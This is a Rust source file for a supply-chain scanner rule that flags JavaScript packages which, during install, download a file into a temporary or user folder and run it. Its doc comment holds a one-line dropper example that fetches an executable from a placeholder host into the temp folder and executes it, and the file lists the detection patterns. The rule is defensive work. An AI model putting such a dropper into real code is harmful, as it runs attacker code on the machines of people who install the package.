//! JS-DROP-AND-RUN: JavaScript downloads a file into a temporary or user folder and
//! starts it.

use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::js::PROCESS_ENV;

use super::common::{context, is_js_exec, is_js_network, js_sources};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds a JavaScript file that runs at install or import time and does all of:
/// requests something over the network, writes a file (`fs.createWriteStream`,
/// `fs.writeFileSync`, …), places it in a temporary or per-user folder
/// (`os.tmpdir()`, `/tmp/…`, `%TEMP%`, `%APPDATA%`, `process.env.TEMP`/`APPDATA`/
/// `LOCALAPPDATA`), and starts a program. Critical.
///
/// ## Why is this bad?
/// This is the dropper: fetch a second stage, put it where nobody looks, run it.
/// Packages that ship a prebuilt binary download it into their own directory so
/// that it is removed with them; they have no reason to stage it in a temporary or
/// per-user folder and start it from there during installation.
///
/// ## Example
/// ```javascript
/// const dest = require("path").join(require("os").tmpdir(), "svc.exe");
/// require("https").get("https://example.invalid/svc.exe", (r) =>
///   r.pipe(require("fs").createWriteStream(dest)).on("finish", () => require("child_process").exec(dest)));
/// ```
#[derive(Debug)]
pub struct DropAndRun;

const WRITES: &[&str] = &[
    "fs.createWriteStream",
    "fs.writeFileSync",
    "fs.writeFile",
    "fs.promises.writeFile",
    "fs-extra.outputFile",
    "fs-extra.outputFileSync",
];

const STAGING_ENV: &[&str] = &["TEMP", "TMP", "TMPDIR", "APPDATA", "LOCALAPPDATA"];

fn staging_string(s: &str) -> bool {
    let lower = s.to_ascii_lowercase();
    lower.starts_with("/tmp/")
        || lower.starts_with("/var/tmp/")
        || lower.starts_with("/dev/shm/")
        || lower.contains("%temp%")
        || lower.contains("%appdata%")
        || lower.contains("%localappdata%")
}

impl Rule for DropAndRun {
    fn id(&self) -> &'static str {
        "JS-DROP-AND-RUN"
    }
    fn category(&self) -> Category {
        Category::DOWNLOAD_EXECUTE
    }
    fn summary(&self) -> &'static str {
        "downloads a file into a temporary or user folder and runs it"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for (file, facts) in js_sources(input) {
            let Some(net) = facts.calls.iter().find(|c| is_js_network(&c.callee)) else {
                continue;
            };
            if !facts
                .calls
                .iter()
                .any(|c| WRITES.contains(&c.callee.as_str()))
            {
                continue;
            }
            let staged = facts.calls.iter().any(|c| {
                c.callee == "os.tmpdir"
                    || c.callee == PROCESS_ENV
                        && c.args
                            .first()
                            .and_then(|a| a.as_str())
                            .is_some_and(|n| STAGING_ENV.contains(&n))
            }) || facts.strings.iter().any(|s| staging_string(&s.value));
            if !staged {
                continue;
            }
            let Some(exec) = facts.calls.iter().find(|c| is_js_exec(&c.callee)) else {
                continue;
            };
            if context(input, file) == RunsAt::Runtime {
                continue;
            }
            out.push(finding(
                self.id(),
                Severity::Critical,
                self.category(),
                format!(
                    "downloads with `{}` (line {}), writes into a temporary or user folder and runs `{}`",
                    net.callee, net.line, exec.callee
                ),
                Some(&file.path),
                Some(exec.line),
                Some(&exec.snippet),
            ));
        }
    }
}
